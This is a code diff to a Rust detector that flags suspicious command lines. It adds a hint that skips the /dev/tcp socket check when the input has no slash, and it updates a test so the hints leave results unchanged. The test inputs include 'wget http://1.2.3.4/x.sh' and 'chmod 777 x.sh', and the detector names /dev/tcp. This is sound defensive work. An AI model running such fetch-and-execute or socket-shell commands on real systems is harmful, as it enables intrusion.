@@ -67,20 +67,21 @@ impl Found {
 /// suspicious command line.
 #[cfg(test)]
 pub(crate) fn flag_tools(s: &str) -> Vec<&'static str> {
-    flag_tools_in(s, true)
+    flag_tools_in(s, true, true)
 }
 
 /// Flagged tools in `s`, for a caller that already knows whether `s` has a command
 /// separator (`; | & \` ( )` or newline); without one the whole string is a
-/// single simple command and the separator scan is skipped.
-pub(crate) fn flag_tools_in(s: &str, has_separator: bool) -> Vec<&'static str> {
+/// single simple command and the separator scan is skipped; without a `/`
+/// there is no `/dev/tcp/` to look for.
+pub(crate) fn flag_tools_in(s: &str, has_separator: bool, has_slash: bool) -> Vec<&'static str> {
     let mut found = Found::default();
     if has_separator {
         line(s, 0, &mut found);
     } else {
         segment(s, false, 0, &mut found);
     }
-    if dev_socket(s.as_bytes()) {
+    if has_slash && dev_socket(s.as_bytes()) {
         found.push("/dev/tcp");
     }
     if found.strong {
@@ -597,7 +598,7 @@ mod tests {
     }
 
     #[test]
-    fn separator_hint_does_not_change_results() {
+    fn hints_do_not_change_results() {
         for s in [
             "wget http://1.2.3.4/x.sh",
             "chmod 777 x.sh",
@@ -611,7 +612,8 @@ mod tests {
             "   ",
         ] {
             let has_sep = s.bytes().any(|b| SEPARATORS[usize::from(b)]);
-            assert_eq!(flag_tools_in(s, has_sep), flag_tools(s), "{s}");
+            let has_slash = s.contains('/');
+            assert_eq!(flag_tools_in(s, has_sep, has_slash), flag_tools(s), "{s}");
         }
     }
 
